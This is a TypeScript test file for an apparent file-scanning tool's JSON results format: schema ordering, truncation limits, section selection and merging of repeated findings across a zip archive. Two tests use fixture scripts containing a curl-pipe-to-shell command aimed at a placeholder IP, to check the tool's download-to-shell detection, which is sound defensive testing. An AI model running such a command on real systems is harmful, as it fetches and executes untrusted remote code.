// `analysis_results`: schema version first, snake_case, bounded, deterministic, sections selectable.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { toJson } from '../../src/file/results/json.ts'
import { analysisResults, analyzeFile, type FileReport } from '../../src/index.ts'
import { writeZip } from './archives/write-zip.ts'
import { fileFacts } from './empty-facts.ts'

const now = new Date('2026-01-01T00:00:00Z')
const analyze = (text: string, fileName: string): Promise<FileReport> =>
  analyzeFile(Buffer.from(text), { fileName, now })

test('schema_version stands first and the same bytes give the same results', async () => {
  const one = analysisResults(await analyze('hello there', 'a.txt'))
  const other = analysisResults(await analyze('hello there', 'a.txt'))
  assert.equal(Object.keys(one)[0], 'schema_version')
  assert.deepEqual(one, other)
  for (const name of ['engine', 'file', 'verdict', 'heuristics', 'children', 'limits']) assert.ok(name in one, name)
})

test('only the sections that were asked for are made', async () => {
  const report = await analyze('hello', 'a.txt')
  assert.deepEqual(Object.keys(analysisResults(report, { sections: ['verdict'] })), ['schema_version', 'verdict'])
})

test('too large results are shortened, and the limits tell what', async () => {
  const report = await analyze('hello', 'a.txt')
  const entries = Array.from(
    { length: 50_000 },
    (_, at) => ({ name: `file-${at}`, kind: 'file', sizeBytes: 1, packedBytes: 1, encrypted: false }) as const,
  )
  const archive = {
    format: 'zip',
    entries,
    entryCount: 50_000,
    encrypted: false,
    passwordUsed: null,
    passwordSource: null,
    comment: null,
    unpackedBytes: 0,
    ratioMax: 1,
  }
  const root = { ...report.root, facts: fileFacts({ archive }) }
  const results = analysisResults({ ...report, root }, { bytesMax: 100_000 })
  assert.ok(JSON.stringify(results).length < 100_000)
  assert.match(JSON.stringify(results['limits']), /archive\.entries.{0,60}of 50000 are shown/)
})

test('what facts are made of becomes plain JSON', () => {
  const cuts: string[] = []
  const value = {
    sizeBytes: 1,
    when: now,
    raw: Uint8Array.of(255, 1),
    names: new Set(['a']),
    odd: Number.NaN,
    long: 'x'.repeat(20),
    '/JS': 2,
    broken: '\ud800',
  }
  const json = toJson(value, { itemsMax: 10, charsMax: 5, depthMax: 5 }, 'x', ({ where }) => cuts.push(where))
  assert.deepEqual(json, {
    size_bytes: 1,
    when: '2026-01-01T00:00:00.000Z',
    raw: 'ff01',
    names: ['a'],
    odd: null,
    long: 'xxxxx',
    '/JS': 2,
    broken: '\ufffd',
  })
  assert.deepEqual(cuts, ['x.when', 'x.long'].slice(1))
})

test('what several files of a tree show is told once, at the place that counts, with the others beside it', async () => {
  const scripts = Array.from({ length: 60 }, (_, at) => ({
    name: `run-${at}.sh`,
    bytes: Buffer.from(`#!/bin/sh\n# ${at}\ncurl http://203.0.113.9/x | sh\n`),
  }))
  const report = await analyzeFile(writeZip(scripts), { fileName: 'all.zip', now })
  // the shape of the wire
  const results = analysisResults(report) as unknown as {
    readonly heuristics: readonly {
      readonly heur_id: string
      readonly path: string
      readonly places?: number
      readonly also_at?: readonly { readonly path: string }[]
    }[]
    readonly verdict: { readonly reasons: readonly { readonly heuristic_id: string; readonly path: string }[] }
  }
  const ids = results.heuristics.map(({ heur_id }) => heur_id)
  assert.equal(new Set(ids).size, ids.length)
  const piped = results.heuristics.find(({ heur_id }) => heur_id === 'script_pipes_download_to_shell')
  assert.equal(piped?.places, 60)
  assert.equal(piped.also_at?.length, 50)
  assert.ok(!piped.also_at.some(({ path }) => path === piped.path))
  const reason = results.verdict.reasons.find(({ heuristic_id }) => heuristic_id === piped.heur_id)
  assert.equal(piped.path, reason?.path)
})

test('what one file shows has no further places', async () => {
  const results = analysisResults(await analyze('#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 'a.sh'))
  assert.doesNotMatch(JSON.stringify(results), /also_at|"places"/)
})
